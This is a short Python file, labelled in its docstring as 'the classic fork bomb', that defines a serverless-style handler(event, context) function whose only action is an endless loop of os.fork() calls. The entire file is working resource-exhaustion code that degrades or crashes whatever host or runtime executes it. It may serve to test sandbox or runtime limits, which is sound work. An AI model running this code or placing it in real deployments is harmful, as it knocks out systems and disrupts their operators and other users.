"""The classic fork bomb."""
import os


def handler(event, context):
    while True:
        os.fork()
